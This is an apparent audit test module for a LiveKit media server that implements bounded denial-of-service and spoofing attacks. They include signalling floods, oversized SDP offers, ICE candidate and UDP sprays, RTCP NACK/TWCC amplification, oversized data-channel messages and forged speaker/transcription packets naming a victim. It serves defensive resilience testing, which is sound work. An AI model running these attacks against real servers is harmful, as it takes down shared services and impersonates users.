"""Hostile clients: the attacks of a participant who holds a join token and wants the node down.

Every attack speaks only the wire protocol (LiveKit signalling, ICE/DTLS/SRTP/SCTP, raw UDP) and
is bounded in count and in time. Each is an async function taking the SFU URL and a token (or a
`Mint`, identity → token, when it needs several identities; or a connected participant for the
media attacks) and returns an `AttackResult`: what was sent and what the server answered.

The bytes come from the pure builders of `loadtest.hostile_wire` (re-exported here). The numbers in parentheses refer to the findings of
the 2026-12 audit. Traffic goes only where the SFU's own SDP points (loopback in tests).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import secrets
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

from aiortc.rtcdatachannel import RTCDataChannel, RTCDataChannelParameters
from aiortc.rtcsctptransport import USERDATA_MAX_LENGTH, RTCSctpCapabilities, RTCSctpTransport
from livekit.protocol import models, rtc
from websockets.asyncio.client import ClientConnection, connect

from loadtest.hostile_wire import (
    DATA_SECTION,
    MID_EXT,
    RID_EXT,
    add_track_blowup,
    audio_section,
    candidate_address,
    candidate_flood,
    candidate_init_json,
    fake_local,
    forged_srtp,
    malformed_stun,
    nack_flood_compound,
    offer_sdp,
    rid_flood,
    speaker_packet,
    ssrc_group_flood,
    transcription_packet,
    twcc_flood_compound,
    video_section,
)
from loadtest.packets import rtp_header
from loadtest.participant import Participant, Subscriber, TileRequest
from loadtest.signal import PROTOCOL, SignalClient
from loadtest.webrtc import Sdp, Transport, answer_subscriber_offer

__all__ = [
    "AttackResult",
    "DataPublisher",
    "HostileSignal",
    "Mint",
    "add_track_blowup",
    "candidate_flood",
    "connected_subscriber",
    "fake_local",
    "malformed_stun",
    "nack_flood_compound",
    "offer_sdp",
    "rid_flood",
    "ssrc_group_flood",
    "twcc_flood_compound",
]

Mint = Callable[[str], str]
WAIT_S = 15.0
KEPT_RESPONSES = 2000


@dataclass
class AttackResult:
    """What one attack sent and what the server answered."""

    name: str
    sent: int = 0
    responses: Counter[str] = field(default_factory=Counter)
    refusals: list[rtc.RequestResponse] = field(default_factory=list)
    notes: dict[str, Any] = field(default_factory=dict)
    elapsed_s: float = 0.0

    def refused_with(self, reason: int) -> int:
        return sum(r.reason == reason for r in self.refusals)

    def absorb(self, signal: HostileSignal) -> None:
        self.responses.update(signal.counts)
        self.refusals += signal.refusals


# -- signalling -----------------------------------------------------------------------------------


class HostileSignal:
    """A bare signalling client that keeps what the server says (bounded) and answers nothing."""

    def __init__(self, url: str, token: str, *, auto_subscribe: bool = True) -> None:
        self.client = SignalClient(url, token, auto_subscribe=auto_subscribe, on_message=self._on)
        self.counts: Counter[str] = Counter()
        self.refusals: list[rtc.RequestResponse] = []
        self.kept: list[rtc.SignalResponse] = []
        self._arrived = asyncio.Event()

    async def _on(self, response: rtc.SignalResponse) -> None:
        kind = response.WhichOneof("message") or ""
        self.counts[kind] += 1
        if kind == "request_response" and len(self.refusals) < KEPT_RESPONSES:
            self.refusals.append(response.request_response)
        if kind != "subscription_response" and len(self.kept) < KEPT_RESPONSES:
            self.kept.append(response)
        self._arrived.set()

    async def join(self) -> rtc.JoinResponse:
        return await self.client.connect()

    async def send(self, **message: Any) -> None:
        await self.client.send(rtc.SignalRequest(**message))

    async def wait_for(
        self,
        kind: str | tuple[str, ...],
        match: Callable[[rtc.SignalResponse], bool] = lambda _r: True,
        *,
        timeout_s: float = WAIT_S,
        start: int = 0,
    ) -> rtc.SignalResponse | None:
        """The first kept response of `kind` (or of one of the kinds, from index `start`) that
        `match`es, or None."""
        kinds = (kind,) if isinstance(kind, str) else kind
        deadline = time.monotonic() + timeout_s
        while True:
            for response in self.kept[start:]:
                if response.WhichOneof("message") in kinds and match(response):
                    return response
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.client.closed_reason:
                return None
            self._arrived.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._arrived.wait(), min(remaining, 0.2))

    async def close(self) -> None:
        await self.client.close()


async def silent_listener(url: str, token: str) -> ClientConnection:
    """(10) Join, read the JoinResponse, then never read again (the TCP window closes)."""
    query = f"access_token={token}&protocol={PROTOCOL}&sdk=python&auto_subscribe=0"
    ws = await connect(f"{url}/rtc?{query}", max_size=None, max_queue=1, open_timeout=WAIT_S)
    async with asyncio.timeout(WAIT_S):
        await ws.recv()
    return ws


# -- signalling attacks ---------------------------------------------------------------------------


async def layer_codec_blowup(url: str, token: str, *, requests: int = 4) -> AttackResult:
    """(1) Four AddTrackRequests of 3,000 layers × 3,000 simulcast codecs."""
    result = AttackResult("add_track_layers_x_codecs")
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        for n in range(requests):  # one at a time: a caller can stop a node that stalls
            await signal.send(add_track=add_track_blowup(f"blowup-{n}"))
            result.sent += 1
            await signal.wait_for("request_response", _refusal_of(f"blowup-{n}"), timeout_s=10)
        published = [r.track_published.track for r in signal.kept if r.HasField("track_published")]
        result.notes["max_layers"] = max((len(t.layers) for t in published), default=0)
        result.notes["max_codecs"] = max((len(t.codecs) for t in published), default=0)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


def _refusal_of(cid: str) -> Callable[[rtc.SignalResponse], bool]:
    return lambda response: response.request_response.add_track.cid == cid


def _answer_to(offer_id: int) -> Callable[[rtc.SignalResponse], bool]:
    return lambda response: response.answer.id == offer_id


async def publisher_offer_flood(
    url: str,
    token: str,
    name: str,
    sections: list[list[str]],
    *,
    candidates: list[str] | None = None,
) -> AttackResult:
    """(8, 9, 12) One publisher offer with oversized sections; ICE never completes."""
    result = AttackResult(name)
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        for section in sections:
            cid = section[1].split()[-1] if section[1].startswith("a=msid:") else ""
            if cid:
                video = section[0].startswith("m=video")
                kind = models.TrackType.VIDEO if video else models.TrackType.AUDIO
                await signal.send(add_track=rtc.AddTrackRequest(cid=cid, name="t", type=kind))
        local = fake_local()
        sdp = offer_sdp(local, sections, candidates=candidates)
        result.notes["offer_bytes"] = len(sdp)
        await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
        result.sent += 1
        answer = await signal.wait_for("answer", timeout_s=10)
        result.notes["answered"] = answer is not None
        if answer is not None:
            text = answer.answer.sdp
            result.notes["answer_rids"] = text.count("a=rid:")
            result.notes["answer_bytes"] = len(text)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def ssrc_fid_flood(url: str, token: str, count: int = 20_000) -> AttackResult:
    """(8) A publisher offer with `count` a=ssrc and `count` FID groups on one video m-line."""
    section = video_section("flood-video", ssrc_group_flood(count))
    return await publisher_offer_flood(url, token, "ssrc_fid_offer", [section])


async def simulcast_rid_flood(url: str, token: str, count: int = 50_000) -> AttackResult:
    """(9) A publisher offer declaring `count` simulcast rids on one video m-line."""
    section = video_section("rid-video", rid_flood(count))
    return await publisher_offer_flood(url, token, "rid_offer", [section])


async def candidate_flood_attack(
    url: str,
    token: str,
    *,
    sdp_candidates: int = 20_000,
    canaries: list[tuple[str, int]] = (),  # type: ignore[assignment]
    trickles: int = 5_000,
) -> AttackResult:
    """(12) An offer with `sdp_candidates` private candidates, then a trickle flood: first the
    `canaries` (addresses the caller listens on, top priority), then `trickles` private ones."""
    result = AttackResult("ice_candidate_flood")
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        await signal.send(add_track=rtc.AddTrackRequest(cid="cand-audio", name="mic"))
        sdp = offer_sdp(
            fake_local(), [audio_section("cand-audio")], candidates=candidate_flood(sdp_candidates)
        )
        result.notes["offer_bytes"] = len(sdp)
        await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
        result.sent += 1
        await signal.wait_for("answer", timeout_s=10)
        targets = [(ip, port, 2**31 - 1) for ip, port in canaries]
        targets += [
            (f"10.{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}", 53, 2) for n in range(trickles)
        ]
        for n, (ip, port, priority) in enumerate(targets):
            init = candidate_init_json(ip, port, priority, foundation=f"t{n}")
            trickle = rtc.TrickleRequest(candidateInit=init, target=rtc.SignalTarget.PUBLISHER)
            await signal.send(trickle=trickle)
            result.sent += 1
            if n % 200 == 0:
                await asyncio.sleep(0)
        await asyncio.sleep(3.0)  # let the checks run towards whatever was accepted
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def huge_track_name_mute_storm(
    url: str, mint: Mint, *, listeners: int = 20, toggles: int = 200, name_bytes: int = 900_000
) -> AttackResult:
    """(10) `listeners` sessions that never read; a track named with `name_bytes` bytes is
    published (ICE-less offer) and muted/unmuted `toggles` times. An SFU that refuses the name
    (notes ``name_refused``) gets the storm on a track with a short name instead, so the
    listeners are still sent every mute."""
    result = AttackResult("huge_trackinfo_mute_storm")
    sockets: list[ClientConnection] = []
    signal = HostileSignal(url, mint("hostile-namer"))
    start = time.monotonic()

    async def answer_to(cid: str) -> rtc.SignalResponse | None:
        def published_or_refused(response: rtc.SignalResponse) -> bool:
            if response.HasField("track_published"):
                return response.track_published.cid == cid
            return response.request_response.add_track.cid == cid

        kinds = ("track_published", "request_response")
        return await signal.wait_for(kinds, published_or_refused, timeout_s=10)

    try:
        for n in range(listeners):
            sockets.append(await silent_listener(url, mint(f"hostile-deaf-{n}")))
        await signal.join()
        name = "N" * name_bytes
        await signal.send(
            add_track=rtc.AddTrackRequest(cid="huge", name=name, type=models.TrackType.AUDIO)
        )
        answer = await answer_to("huge")
        if answer is not None and answer.HasField("request_response"):
            result.notes["name_refused"] = answer.request_response.message
            await signal.send(
                add_track=rtc.AddTrackRequest(cid="short", name="N", type=models.TrackType.AUDIO)
            )
            answer = await answer_to("short")
        if answer is None or not answer.HasField("track_published"):
            result.notes["published"] = False
            return result
        track = answer.track_published.track
        result.notes["name_len_echoed"] = len(track.name)
        sdp = offer_sdp(fake_local(), [audio_section(answer.track_published.cid)], candidates=[])
        await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
        await signal.wait_for("answer", timeout_s=10)
        for n in range(toggles):
            await signal.send(mute=rtc.MuteTrackRequest(sid=track.sid, muted=n % 2 == 0))
            result.sent += 1
            await asyncio.sleep(0.005)
        await asyncio.sleep(1.0)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
        await _close_all(sockets)
    return result


async def _close_all(sockets: list[ClientConnection]) -> None:
    """Close every WebSocket at once, each given 2 s (a listener that never read may not
    finish its closing handshake)."""

    async def close(ws: ClientConnection) -> None:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(ws.close(), 2)

    await asyncio.gather(*(close(ws) for ws in sockets))


async def track_count_flood(
    url: str,
    token: str,
    *,
    per_round: int = 32,
    rounds: int = 30,
    before_leave: Callable[[], Awaitable[None]] | None = None,
) -> AttackResult:
    """(11) `rounds` × (`per_round` AddTrackRequests + an offer with every m-line so far);
    `before_leave` runs (an observer's look at the room) before the attacker leaves."""
    result = AttackResult("published_track_flood")
    signal = HostileSignal(url, token)
    local = fake_local()
    sections: list[list[str]] = []
    start = time.monotonic()
    try:
        await signal.join()
        for r in range(rounds):
            for i in range(per_round):
                cid = f"t{r}-{i}"
                await signal.send(add_track=rtc.AddTrackRequest(cid=cid, name=cid))
                sections.append(audio_section(cid))
                result.sent += 1
            mark = len(signal.kept)
            sdp = offer_sdp(local, sections, candidates=[])
            await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=r + 1))
            await signal.wait_for("answer", _answer_to(r + 1), timeout_s=5, start=mark)
        result.notes["track_published"] = signal.counts["track_published"]
        if before_leave is not None:
            await before_leave()
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def subscription_toggle_flood(
    url: str, token: str, track_sid: str, *, toggles: int = 100_000, max_s: float = 8.0
) -> AttackResult:
    """(17) Never answer the subscriber offer; subscribe/unsubscribe `track_sid` `toggles` times
    (stopping after `max_s`). Then answer, and count the m-lines of the next offer."""
    result = AttackResult("subscribe_toggle_flood")
    signal = HostileSignal(url, token, auto_subscribe=False)
    start = time.monotonic()
    try:
        await signal.join()
        first = await signal.wait_for("offer", timeout_s=10)
        result.notes["first_offer"] = first is not None
        for n in range(toggles):
            update = rtc.UpdateSubscription(track_sids=[track_sid], subscribe=n % 2 == 0)
            await signal.send(subscription=update)
            result.sent += 1
            if n % 100 == 0:
                await asyncio.sleep(0)
                if time.monotonic() - start > max_s:
                    break
        await signal.send(subscription=rtc.UpdateSubscription(track_sids=[track_sid]))
        if first is not None:
            mark = len(signal.kept)
            answer = answer_subscriber_offer(Sdp.parse(first.offer.sdp), fake_local())
            await signal.send(
                answer=rtc.SessionDescription(type="answer", sdp=answer, id=first.offer.id)
            )
            second = await signal.wait_for("offer", timeout_s=15, start=mark)
            result.notes["answered_after_s"] = round(time.monotonic() - start, 1)
            if second is not None:
                result.notes["next_offer_mlines"] = second.offer.sdp.count("\nm=")
                result.notes["next_offer_bytes"] = len(second.offer.sdp)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def subscription_sid_flood(
    url: str, token: str, *, sids: int = 60_000, messages: int = 3
) -> AttackResult:
    """(23) `messages` UpdateSubscriptions of `sids` made-up track sids each (about 1 MiB)."""
    result = AttackResult("update_subscription_sid_flood")
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        for _ in range(messages):
            fake = [f"TR_{secrets.token_hex(6)}" for _ in range(sids)]
            update = rtc.UpdateSubscription(track_sids=fake, subscribe=True)
            result.notes["message_bytes"] = len(
                rtc.SignalRequest(subscription=update).SerializeToString()
            )
            await signal.send(subscription=update)
            result.sent += 1
        await asyncio.sleep(3.0)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def duplicate_identity_ghost(url: str, mint: Mint, *, cycles: int = 10) -> AttackResult:
    """(4) A joins as X and adds a track; B joins as X (A is told to leave, its socket stays);
    A then offers that track. Repeated `cycles` times; everyone leaves without LeaveRequest."""
    result = AttackResult("duplicate_identity_ghost")
    start = time.monotonic()
    try:
        for n in range(cycles):
            identity = f"hostile-twin-{n}"
            a = HostileSignal(url, mint(identity))
            b = HostileSignal(url, mint(identity))
            try:
                await a.join()
                await a.send(add_track=rtc.AddTrackRequest(cid="ghost", name="ghost"))
                await a.wait_for("track_published", timeout_s=5)
                await b.join()
                await a.wait_for("leave", timeout_s=5)
                sdp = offer_sdp(fake_local(), [audio_section("ghost")], candidates=[])
                await a.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
                await a.wait_for("answer", timeout_s=1)
                result.sent += 1
            finally:
                result.absorb(a)
                await _drop(a)
                await _drop(b)
    finally:
        result.elapsed_s = time.monotonic() - start
    return result


async def unconnectable_publisher(url: str, token: str, *, hold_s: float) -> AttackResult:
    """(3) Join, never answer the subscriber offer, send a publisher offer whose ICE never
    completes, hold the socket `hold_s` (past the server's connect timeout), drop it."""
    result = AttackResult("unconnectable_publisher")
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        await signal.send(add_track=rtc.AddTrackRequest(cid="mute", name="mute"))
        sdp = offer_sdp(fake_local(), [audio_section("mute")], candidates=[])
        await signal.send(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
        result.sent += 1
        left = await signal.wait_for("leave", timeout_s=hold_s)
        result.notes["server_left"] = left is not None
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await _drop(signal)
    return result


async def _drop(signal: HostileSignal) -> None:
    """Close the WebSocket without a LeaveRequest (a client that vanishes)."""
    signal.client._ws, ws = None, signal.client._ws
    await signal.client.close()
    if ws is not None:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(ws.close(), 2)


# -- UDP attacks ----------------------------------------------------------------------------------


async def udp_spray(
    address: tuple[str, int], make: Callable[[int], bytes], count: int, *, per_ms: int = 40
) -> int:
    """Send `count` datagrams `make(n)` from a fresh socket (not an ICE peer), `per_ms` per ms."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setblocking(False)
        for n in range(count):
            with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
                sock.sendto(make(n), address)
                sent += 1
            if n % per_ms == per_ms - 1:
                await asyncio.sleep(0.001)
    return sent


async def unanswered_offer_flood(
    url: str, token: str, *, count: int = 100_000, size: int = 1000
) -> AttackResult:
    """(6) Join, never answer the subscriber offer, flood its advertised port with garbage."""
    result = AttackResult("unanswered_port_flood")
    signal = HostileSignal(url, token)
    start = time.monotonic()
    try:
        await signal.join()
        offer = await signal.wait_for("offer", timeout_s=10)
        if offer is None:
            return result
        address = candidate_address(offer.offer.sdp)
        blob = b"\x40" + os.urandom(size - 1)  # not STUN, not DTLS, not RTP
        result.sent = await udp_spray(address, lambda _n: blob, count)
        result.notes["port"] = address[1]
        await asyncio.sleep(1.0)
    finally:
        result.elapsed_s = time.monotonic() - start
        result.absorb(signal)
        await signal.close()
    return result


async def stray_datagrams(
    address: tuple[str, int], *, stun: int = 2_000, srtp: int = 20_000
) -> AttackResult:
    """(15) Malformed STUN and forged SRTP at a connected PC's port from a non-peer address."""
    result = AttackResult("stray_stun_and_srtp")
    start = time.monotonic()
    result.sent = await udp_spray(address, lambda _n: malformed_stun(), stun)
    forged = [forged_srtp() for _ in range(64)]
    result.sent += await udp_spray(address, lambda n: forged[n % 64], srtp)
    result.elapsed_s = time.monotonic() - start
    return result


# -- media attacks (a connected participant) ------------------------------------------------------


async def connected_subscriber(url: str, token: str, identity: str) -> Subscriber:
    """A loadtest subscriber that joined, answered and connected (it receives the room's media)."""
    subscriber = Subscriber(url, token, identity, sample_every=1 << 30, layout=_full_layout)
    await subscriber.join()
    async with asyncio.timeout(WAIT_S):
        await subscriber.sub_transport.connected.wait()
    return subscriber


def _full_layout(tracks: dict[str, tuple[str, int]]) -> dict[str, TileRequest]:
    return {sid: TileRequest(False, 1280, 720) for sid in tracks}


async def twcc_flood(
    subscriber: Participant, *, per_s: int = 10, seconds: float = 3.0
) -> AttackResult:
    """(2) SRTCP compounds of 30 TWCC packets, `per_s` a second, from a connected subscriber."""
    result = AttackResult("twcc_rtcp_flood")
    blob = twcc_flood_compound()
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        if subscriber.sub_transport.send_rtcp(blob):
            result.sent += 1
        await asyncio.sleep(1.0 / per_s)
    result.elapsed_s = time.monotonic() - start
    return result


async def nack_flood(
    subscriber: Subscriber, *, interval_s: float = 0.04, seconds: float = 3.0
) -> AttackResult:
    """(7) Every `interval_s`, 8 NACKs × the last 512 sequence numbers of every stream received."""
    result = AttackResult("nack_amplification")
    before = subscriber.packets
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        for ssrc, stream in list(subscriber.streams.items()):
            compound = nack_flood_compound(1, ssrc, stream.highest & 0xFFFF)
            if subscriber.sub_transport.send_rtcp(compound):
                result.sent += 1
        await asyncio.sleep(interval_s)
    await asyncio.sleep(0.5)
    result.elapsed_s = time.monotonic() - start
    result.notes["packets_received"] = subscriber.packets - before
    result.notes["streams"] = len(subscriber.streams)
    return result


class DataPublisher(Participant):
    """A participant whose publisher PC carries a data channel (aiortc SCTP over our DTLS) and,
    optionally, a simulcast video m-line it can send raw RTP on."""

    def __init__(self, url: str, token: str, identity: str, *, video_cid: str = "") -> None:
        super().__init__(url, token, identity, auto_subscribe=False)
        self.pub_transport = Transport(controlling=True)
        self.video_cid = video_cid
        self.sctp: RTCSctpTransport | None = None
        self.channel: RTCDataChannel | None = None
        self._pub_answer: asyncio.Future[rtc.SessionDescription] | None = None
        self._track: asyncio.Future[rtc.TrackPublishedResponse] | None = None

    def transport_for(self, target: int) -> Transport | None:
        if target == rtc.SignalTarget.PUBLISHER:
            return self.pub_transport
        return super().transport_for(target)

    async def on_signal(self, kind: str | None, response: rtc.SignalResponse) -> None:
        if kind == "answer" and self._pub_answer is not None and not self._pub_answer.done():
            self._pub_answer.set_result(response.answer)
        elif kind == "track_published" and self._track is not None and not self._track.done():
            self._track.set_result(response.track_published)

    async def publish(self) -> None:
        """Join, offer (data + the video m-line), connect ICE/DTLS, open `_reliable`."""
        loop = asyncio.get_running_loop()
        await self.join()
        sections = [DATA_SECTION]
        if self.video_cid:
            self._track = loop.create_future()
            request = rtc.AddTrackRequest(
                cid=self.video_cid, name="camera", type=models.TrackType.VIDEO,
                source=models.TrackSource.CAMERA, width=1280, height=720,
            )  # fmt: skip
            await self.signal.send(rtc.SignalRequest(add_track=request))
            async with asyncio.timeout(WAIT_S):
                await self._track
            rids = ["a=rid:q send", "a=rid:h send", "a=rid:f send", "a=simulcast:send q;h;f"]
            sections.append(video_section(self.video_cid, rids))
        local = await self.pub_transport.local_parameters()
        self._pub_answer = loop.create_future()
        sdp = offer_sdp(local, sections)
        await self.signal.send(
            rtc.SignalRequest(offer=rtc.SessionDescription(type="offer", sdp=sdp, id=1))
        )
        async with asyncio.timeout(WAIT_S):
            answer = await self._pub_answer
        remote = Sdp.parse(answer.sdp).first_bundled()
        self.pub_transport.start(remote, "server" if remote.setup == "active" else "client")
        if not Sdp.parse(answer.sdp).has_candidates:
            await self.trickle_local(local, rtc.SignalTarget.PUBLISHER, remote.mid, 0)
        async with asyncio.timeout(WAIT_S):
            await self.pub_transport.connected.wait()
        self.sctp = RTCSctpTransport(self.pub_transport._dtls, 5000)
        await self.sctp.start(RTCSctpCapabilities(maxMessageSize=262144), 5000)
        channel = RTCDataChannel(self.sctp, RTCDataChannelParameters(label="_reliable"))
        self.channel = channel
        opened = asyncio.Event()
        channel.on("open", opened.set)
        if channel.readyState != "open":
            async with asyncio.timeout(WAIT_S):
                await opened.wait()

    def send_data(self, payload: bytes) -> None:
        assert self.channel is not None and self.sctp is not None
        self.sctp._remote_max_message_size = 0  # an attacker ignores the advertised limit
        self.channel.send(payload)

    async def close(self) -> None:
        if self.sctp is not None:
            with contextlib.suppress(Exception):
                await asyncio.wait_for(self.sctp.stop(), 3)
        await self.pub_transport.close()
        await super().close()


async def huge_data_message(
    publisher: DataPublisher, *, size: int = 50_000_000, seconds: float = 8.0
) -> AttackResult:
    """(5) One `size`-byte message on `_reliable`; sent for at most `seconds`."""
    result = AttackResult("huge_data_message")
    start = time.monotonic()
    sctp = publisher.sctp
    assert sctp is not None
    first_tsn = sctp._last_sacked_tsn
    publisher.send_data(b"\x00" * size)
    result.sent = 1
    while time.monotonic() - start < seconds and sctp.state == "connected":  # noqa: ASYNC110
        await asyncio.sleep(0.1)
    result.notes["sctp_state"] = str(sctp.state)
    acked_chunks = (sctp._last_sacked_tsn - first_tsn) % (1 << 32)
    result.notes["acked_mb"] = round(acked_chunks * USERDATA_MAX_LENGTH / 1e6, 1)
    result.elapsed_s = time.monotonic() - start
    return result


async def spoofed_data_packets(
    publisher: DataPublisher, victim_sid: str, victim_identity: str, *, repeat: int = 20
) -> AttackResult:
    """(19) `speaker` and `transcription` data packets naming a victim."""
    result = AttackResult("spoofed_speaker_transcription")
    start = time.monotonic()
    for _ in range(repeat):
        publisher.send_data(speaker_packet(victim_sid).SerializeToString())
        publisher.send_data(transcription_packet(victim_identity).SerializeToString())
        result.sent += 2
        await asyncio.sleep(0.05)
    await asyncio.sleep(1.0)
    result.elapsed_s = time.monotonic() - start
    return result


async def ssrc_churn(
    publisher: DataPublisher, *, packets: int = 50_000, per_ms: int = 20
) -> AttackResult:
    """(16) RTP with a fresh SSRC on every packet, each with a valid mid and rid."""
    result = AttackResult("ssrc_churn")
    start = time.monotonic()
    extensions = [(MID_EXT, b"1"), (RID_EXT, b"q")]
    payload = b"\x90\x80\x00\x00" + bytes(100)
    for n in range(packets):
        header = rtp_header(
            payload_type=96, sequence_number=n, timestamp=n * 3000,
            ssrc=(0x10000000 + n) & 0xFFFFFFFF, extensions=extensions,
        )  # fmt: skip
        if publisher.pub_transport.send_rtp(header + payload) is not None:
            result.sent += 1
        if n % per_ms == per_ms - 1:
            await asyncio.sleep(0.001)
    result.elapsed_s = time.monotonic() - start
    return result
